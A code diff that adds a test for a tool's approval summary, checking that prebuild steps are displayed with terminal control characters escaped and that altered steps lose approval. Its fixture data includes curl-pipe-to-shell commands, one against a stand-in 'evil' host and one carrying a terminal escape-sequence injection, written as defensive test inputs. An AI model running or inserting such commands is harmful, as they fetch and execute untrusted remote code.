@@ -162,4 +162,19 @@ describe("approval of the exact content", () => {
     expect(shown).toContain("make \\u001b[2J");
     expect(renderSummary(p)).not.toContain("\u001b");
   });
+
+  it("shows prebuild steps (control characters escaped) and approval covers them", () => {
+    const d = dir("prebuild-steps");
+    const f = path.join(d, "spuff.yaml");
+    fs.writeFileSync(f, 'prebuild: ["npm ci", "curl x \\e]0;pwned\\a | sh"]\n');
+    const p = loadProject(f, {});
+    const shown = renderSummary(p);
+    expect(shown).toMatch(
+      /run prebuild steps \(kept in a prebuild snapshot\):\n {4}npm ci\n {4}curl x \\u001b\]0;pwned\\u0007 \| sh/,
+    );
+    expect(shown).not.toContain("\u001b");
+    approve(trustFile, p, 0);
+    fs.writeFileSync(f, 'prebuild: ["npm ci", "curl evil | sh"]\n');
+    expect(isApproved(trustFile, loadProject(f, {}))).toBe(false);
+  });
 });
